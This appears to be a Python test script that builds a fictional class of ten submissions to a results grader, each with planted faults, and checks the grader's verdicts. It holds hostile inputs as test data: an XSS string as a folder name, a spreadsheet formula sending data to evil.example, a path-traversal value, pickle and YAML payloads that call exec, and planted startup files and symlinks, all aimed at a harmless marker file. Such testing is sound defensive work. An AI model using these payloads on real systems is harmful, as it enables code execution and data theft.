"""A made-up class of ten on emoji, with every kind of fault, and what is said of each.

`python tests/class_of_ten.py --write` does it and writes the sheet into docs/grade.md.
"""

from __future__ import annotations

import csv
import shutil
import sys
import tempfile
from collections.abc import Mapping, Sequence
from pathlib import Path

ROOT = Path(__file__).parent.parent
PAGE = ROOT / "docs" / "grade.md"
START, END = "<!-- the sheet, by tests/class_of_ten.py -->\n", "<!-- its end -->\n"
FLAGS = ("--sample", "3")
HOSTILE = "<img src=x onerror=alert(1)>"

# Where -> verdict, and words of the reason.
EXPECTED = {
    "ada/claims.csv, row 2": ("not rerun", ""),
    "ada/claims.csv, row 3": ("pass", ""),
    "ada/claims.csv, row 4": ("pass", ""),
    "ada/claims.csv, row 5": ("pass", ""),
    "ben/output/fewshot/emoji/shots_1/CoOp/tiny/seed1/result.json": ("pass", ""),
    "ben/output/fewshot/emoji/shots_1/ZeroshotCLIP/tiny/seed1/result.json": (
        "fail", "its checksum does not fit"
    ),
    "cleo/claims.csv, row 2": ("fail", "points, and"),
    "dan/claims.csv, row 2": ("fail", "config hash"),
    "dan/claims.csv, row 3": ("fail", "split hash"),
    "eve/claims.csv, row 2": ("fail", "accuracy must be a number in percent; got 'nan'"),
    "eve/claims.csv, row 3": ("fail", "accuracy 103.5 is above 100 %"),
    "eve/claims.csv, row 4": ("fail", "is impossible: of"),
    "eve/claims.csv, row 5": ("fail", "with a decimal point; got '36,23'"),
    "finn/claims.csv, row 2": ("pass", ""),
    "finn/claims.csv, row 3": ("fail", "the same run as finn/claims.csv, row 2"),
    "finn/claims.csv, row 4": ("fail", "claimed otherwise in finn/claims.csv, row 5"),
    "finn/claims.csv, row 5": ("fail", "the same run as finn/claims.csv, row 4"),
    "gus/claims.csv, row 2": ("fail", "unknown method 'CopyOp'"),
    "gus/claims.csv, row 3": ("fail", "no 'mnist' in"),
    "gus/claims.csv, row 4": ("fail", "no file of the submission is read"),
    "gus/claims.csv, row 5": ("fail", "no file of the submission is read"),
    "gus/claims.csv, row 6": ("fail", "seed must be a whole number"),
    "gus/claims.csv, row 7": ("fail", "TipAdapter: no test on new classes"),
    "gus/claims.csv, row 8": ("fail", "has 12 cells, and the head has 11"),
    "hal/claims.csv": ("fail", "is a link"),
    "hal/output": ("fail", "is a link"),
    f"{HOSTILE}/claims.csv, row 2": ("fail", "method must be a name"),
    f"{HOSTILE}/claims.csv, row 3": ("fail", "claims for"),
    "joe.csv": ("fail", "is no text in UTF-8"),
}  # fmt: skip


def make(folder: Path, marker: Path) -> Path:
    """Write the class.

    Args:
        folder: new, for the class and what lies outside it.
        marker: a file that is made if anything of a submission runs.

    Returns:
        The submission.
    """
    from promptclip.grade import submission
    from promptclip.protocols import base2new, fewshot

    room = folder / "class"
    output = room / "ben" / "output"
    honest = {"output": str(output), "seeds": (1,), "quiet": True}
    fewshot(["zsclip", "coop"], "emoji", shots=(1,), **honest)
    base2new(["zsclip"], "emoji", **honest)
    found = {entry.file: dict(entry.values) for entry in submission.read(room)}
    new, base, coop, zero = (found[file] for file in sorted(found))
    shutil.rmtree(output / "base2new")

    _table(room / "ada", [coop, zero, base, new], digits=2)
    _edit(output / "fewshot/emoji/shots_1/ZeroshotCLIP/tiny/seed1/result.json")
    one = 100 / 207  # points that a picture makes
    _table(room / "cleo", [coop | {"accuracy": str(float(coop["accuracy"]) + 12 * one)}])
    _table(room / "dan", [coop | {"config_hash": "0123456789abcdef"},
                          zero | {"split_hash": base["split_hash"]}])  # fmt: skip
    accuracies = ("nan", "103.5", "36.4", "36,23")
    four = (coop, zero, base, new)
    _table(room / "eve", [r | {"accuracy": a} for r, a in zip(four, accuracies, strict=True)])
    _table(room / "finn", [zero, zero, base, base | {"accuracy": "0"}])
    _table(
        room / "gus",
        [
            coop | {"method": "CopyOp"},
            coop | {"dataset": "mnist"},
            coop | {"cfg": "../../../etc/my.yaml"},
            coop | {"method": "trainers/mine.py"},
            coop | {"seed": "one"},
            new | {"method": "TipAdapter"},
            coop | {None: "one cell more"},  # type: ignore[dict-item]
        ],
    )
    _programs(room / "gus", marker)
    secret = _table(folder / "secret", [coop])
    (room / "hal").mkdir()
    (room / "hal" / "claims.csv").symlink_to(secret)
    (room / "hal" / "output").symlink_to(output)
    formula = '=HYPERLINK("https://evil.example?"&A1,"open")'
    _table(room / HOSTILE, [coop | {"method": formula}, coop | {"student": "ada"}])
    (room / "joe.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\xff\xfe")
    return room


def _table(folder: Path, rows: Sequence[Mapping[str, str]], digits: int | None = None) -> Path:
    from promptclip.grade.submission import COLUMNS

    folder.mkdir(parents=True)
    file = folder / "claims.csv"
    with file.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(COLUMNS)
        for row in rows:
            cells = [row.get(column, "") for column in COLUMNS]
            if digits is not None:
                cells[-1] = f"{float(cells[-1]):.{digits}f}"
            writer.writerow([*cells, *(value for key, value in row.items() if key is None)])
    return file


def _edit(file: Path) -> None:
    """By hand, as somebody would who wants another number."""
    text = file.read_text(encoding="utf-8")
    start = text.index('"accuracy": ') + len('"accuracy": ')
    file.write_text(f"{text[:start]}9{text[start + 1 :]}", encoding="utf-8")


def _programs(folder: Path, marker: Path) -> None:
    """What would run if anything of a submission did."""
    code = f"open({str(marker)!r}, 'w')\n"
    for name in ("trainers/mine.py", "datasets/mine.py", "sitecustomize.py", "conftest.py",
                 "promptclip/__init__.py", "trainers/coop.py"):  # fmt: skip
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(code)
    bomb = f"cbuiltins\nexec\n(S{code!r}\ntR.".encode()
    (folder / "weights.pt").write_bytes(bomb)
    (folder / "model.pth.tar-1").write_bytes(bomb)
    (folder / "my.yaml").write_text(f"OPTIM: !!python/object/apply:exec [{code!r}]\n")
    (folder / "split_fewshot").mkdir()
    (folder / "split_fewshot" / "shot_1-seed_1.pkl").write_bytes(bomb)


def grade(room: Path, work: Path) -> int:
    """The command; gives its exit status."""
    from promptclip.cli import main

    return main(["grade", str(room), "--work", str(work), *FLAGS])


def page(text: str, sheet: str) -> str:
    """A page with another sheet, without the versions of this machine."""
    lines = [line for line in sheet.splitlines(keepends=True) if not line.startswith("- checked")]
    body = "".join(lines).replace("# Claimed results, checked\n\n", "")
    before, rest = text.split(START)
    return before + START + body + END + rest.split(END)[1]


def main() -> None:
    """Write the page."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        room = make(folder, folder / "marker")
        grade(room, folder / "grading")
        sheet = (folder / "grading" / "sheet.md").read_text(encoding="utf-8")
        sys.stdout.write(sheet)
        if "--write" in sys.argv:
            PAGE.write_text(page(PAGE.read_text(encoding="utf-8"), sheet), encoding="utf-8")


if __name__ == "__main__":
    sys.path[:0] = [str(ROOT), str(ROOT / "runtime"), str(ROOT / "tests")]
    main()
